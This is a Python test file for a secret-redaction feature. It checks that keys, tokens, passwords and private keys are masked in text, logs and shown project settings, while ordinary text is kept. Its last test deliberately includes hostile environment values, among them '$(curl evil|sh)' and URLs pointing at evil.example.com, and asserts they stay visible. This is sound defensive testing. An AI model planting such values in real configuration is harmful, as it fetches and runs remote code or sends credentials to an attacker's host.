"""No key, token or password in what is written down, said, or shown of a project."""

from __future__ import annotations

import json
import logging

import pytest
from winnow.adapters.claude import failures
from winnow.adapters.log import _Formatter
from winnow.core import project
from winnow.core.project import Source
from winnow.core.text.secrets import hidden

SECRETS = {
    "Invalid API key {} given": "sk-ant-api03-abcdEFGH1234",
    "x-api-key: {}": "a5b6c7d8e9",
    "Authorization: Bearer {}": "abc.def-ghi",
    '{{"password": "{}"}}': "hunter2",
    "export AWS_SECRET_ACCESS_KEY={}": "wJalrXUtnFEMI/K7MDENG",
    "cli --auth-token {} --verbose": "f00ba4f00ba4",
    "fatal: https://bob:{}@git.example.com/x not found": "pw",
    "remote: {} was revoked": "ghp_abcdefghij0123456789",
    "{}": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    "id {}": "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl",
}
PLAIN = [
    "max_tokens: 128000, output_tokens=1234567",
    "The token is bad; see https://example.com:8080/a@b",
    "Key: value, tokens: none",
    "error: unknown option --print at /home/bob/.local/bin/claude",
    "a basic question; the author is bob@example.com",
]


@pytest.mark.parametrize(("said", "secret"), SECRETS.items())
def test_no_secret_is_said(said: str, secret: str) -> None:
    """In its place stands something that tells one from another; the rest stays."""
    text = hidden(said.format(secret))
    assert secret not in text
    before, _, after = said.replace("{{", "{").replace("}}", "}").partition("{}")
    assert text.startswith(before)
    assert text.endswith(after)
    assert text != hidden(said.format(secret[:-3] + "999"))
    assert hidden(text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_secret_is_said(text: str) -> None:
    assert hidden(text) == text


def test_neither_log_nor_error_has_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Also not one of the environment that looks like nothing."""
    monkeypatch.setenv("SHOP_DB_PASSWORD", "correct-horse")
    said = "401 for sk-ant-api03-abcdEFGH1234, and correct-horse"
    record = logging.LogRecord("winnow.x", logging.ERROR, "", 1, "%s", (said,), None)
    for text in (_Formatter().format(record), failures.died(1, said), failures.start(said)):
        assert "401 for ‹secret" in text
        assert "abcdEFGH" not in text
        assert "correct-horse" not in text


def shown(settings: object, name: str = ".claude/settings.json") -> str:
    return "\n".join(entry.text for entry in project.entries([Source(name, json.dumps(settings))]))


def test_a_project_s_secrets_are_not_shown() -> None:
    """Nor do they get into chat, store and ledger with what is shown; another one asks again."""
    text = shown({"env": {"DB_PASSWORD": "hunter2", "ANTHROPIC_AUTH_TOKEN": "t0ken-t0ken"}})
    assert "hunter2" not in text
    assert "t0ken" not in text
    assert text != shown({"env": {"DB_PASSWORD": "hunter3", "ANTHROPIC_AUTH_TOKEN": "t0ken-t0ken"}})
    server = {
        "url": "http://x",
        "headers": {"Authorization": "abc.def"},
        "env": {"API_KEY": "1234a"},
    }
    text = shown({"mcpServers": {"db": server}}, ".mcp.json")
    assert "abc.def" not in text
    assert "1234a" not in text
    (entry,) = project.entries([Source(".mcp.json", json.dumps({"mcpServers": {"db": server}}))])
    assert entry.servers == {"db": server}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("DB_PASSWORD", "$(curl evil|sh)"),
        ("DB_PASSWORD", "/home/bob/evil"),
        ("AUTH_TOKEN", "https://evil.example.com"),
        ("GIT_CONFIG_KEY_0", "core.sshCommand"),
        ("ANTHROPIC_BASE_URL", "evil.example.com"),
        ("PYTHONPATH", "evil"),
    ],
)
def test_what_acts_is_no_secret(name: str, value: str) -> None:
    """Whatever it is called."""
    assert value in shown({"env": {name: value}})
